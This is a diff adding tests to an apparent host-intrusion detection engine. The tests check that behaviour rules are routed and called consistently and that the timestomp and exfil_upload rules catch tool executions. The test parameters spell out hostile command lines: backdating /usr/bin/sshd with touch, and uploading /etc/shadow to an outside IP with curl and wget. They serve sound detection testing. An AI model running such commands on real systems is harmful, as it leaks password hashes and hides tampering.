@@ -395,3 +395,84 @@ def test_an_exec_reaches_only_the_rules_whose_interest_takes_its_name() -> None:
     assert run("/usr/bin/ls") == ["plain"]                                # no argv
     engine.replace([plain], [])
     assert run("/usr/bin/ls", "ls") == [] and run("/bin/find", "find") == ["find"]
+
+
+def test_the_engine_s_direct_call_of_a_rule_finds_what_its_on_event_finds() -> None:
+    """The engine calls a behaviour rule at ``match`` (kind 1) or ``evaluate`` (kind 2),
+    not through ``on_event`` (s24): the same findings in the same order; a rule that
+    trusts actors, overrides ``on_event`` or has a method set on the instance goes
+    through ``on_event``; a rule raising in ``finding`` is isolated like one raising in
+    its match; and every rule of the pack is routed for every type it declares."""
+    from bastion.containers import Selector
+
+    class One(SingleEvent):
+        name, event_types = "t.one", frozenset({"exec"})
+
+        def match(self, ev: Event, ctx: RuleContext) -> Hit | None:
+            return Hit(f"one {ev.proc.pid}") if ev.proc.pid % 2 else None
+
+    class Two(ThresholdRule):
+        name, event_types, count, window_ns = "t.two", frozenset({"exec"}), 1, 60 * NS
+
+        def value(self, ev: Event, ctx: RuleContext) -> str | None:
+            return "x"
+
+    class Own(One):
+        name = "t.own"
+
+        def on_event(self, ev: Event, ctx: RuleContext) -> list[Finding]:
+            return [dataclasses.replace(f, title="own") for f in super().on_event(ev, ctx)]
+
+    class Bad(One):
+        name = "t.bad"
+
+        def finding(self, ev: Event, h: Hit) -> Finding:
+            raise ValueError("no finding")
+
+    from bastion.detect.behavior.base import RuleSettings
+    trusting = One(RuleSettings(trust=(Selector(host=True),)))
+    trusting.name = "t.trusting"
+    patched = One()
+    patched.name = "t.patched"
+    patched.on_event = lambda ev, ctx: []   # type: ignore[method-assign]
+    rules = [One(), Two(), Own(), trusting, patched]
+    assert [r.engine_call()[1] for r in rules] == [1, 2, 0, 0, 0]
+    events: list[Event] = [exec_(p, "/usr/bin/x", p / 10) for p in range(101, 109)]
+    got = run(Engine(rules + [Bad()]), ProcessTable(), events)
+    twins = [One(), Two(), Own(), One(RuleSettings(trust=(Selector(host=True),))), patched]
+    twins[3].name = "t.trusting"
+    want: list[Finding] = []
+    ctx = RuleContext(ProcessTable())
+    for ev in events:
+        for r in twins:
+            want += r.on_event(ev, ctx)
+    assert [(f.rule, f.title, f.pid, f.evidence) for f in got if f.rule != RULE_ERROR] == \
+        [(f.rule, f.title, f.pid, f.evidence) for f in want]
+    # the raising rule: reported (once: rate-limited), the others carried on
+    assert [f.evidence["failed_rule"] for f in got if f.rule == RULE_ERROR] == ["t.bad"]
+    assert {f.rule for f in got} == {"t.one", "t.two", "t.own", RULE_ERROR}
+    assert [f.title for f in got if f.rule == "t.own"] == ["own"] * 4
+    # the default pack: every rule is routed for every type it declares
+    engine = Engine(behavior_rules())
+    for r in engine.rules:
+        for t in r.event_types:
+            assert any(e[0] is r for e in engine._routes[t]), (r.name, t)
+
+
+@pytest.mark.parametrize("exe, argv", [
+    ("/usr/bin/touch", ("touch", "-d", "2019-01-01", "/usr/bin/sshd")),
+    ("/usr/bin/curl", ("curl", "-T", "/etc/shadow", "https://203.0.113.9/")),
+    ("/usr/bin/wget", ("wget", "--post-file=/etc/shadow", "https://203.0.113.9/")),
+    ("/usr/bin/wget2", ("wget2", "--post-file", "/etc/shadow", "https://203.0.113.9/")),
+])
+def test_exec_interests_of_the_named_tool_rules_reach_each_tool(
+        exe: str, argv: tuple[str, ...]) -> None:
+    """timestomp and exfil_upload declare the tools their match() names (s24): an exec of
+    each (wget2 is in no recorded fixture) still reaches the rule through the engine, and
+    finds what the rule finds when called itself."""
+    rule = {"touch": "behavior.timestomp"}.get(argv[0], "behavior.exfil_upload")
+    ev = exec_(4242, exe, 1.0, argv)
+    got = run(Engine(behavior_rules()), ProcessTable(), [ev])
+    direct = next(r for r in behavior_rules() if r.name == rule)
+    assert direct.on_event(ev, RuleContext(ProcessTable()))
+    assert [f.rule for f in got if f.rule == rule] == [rule]
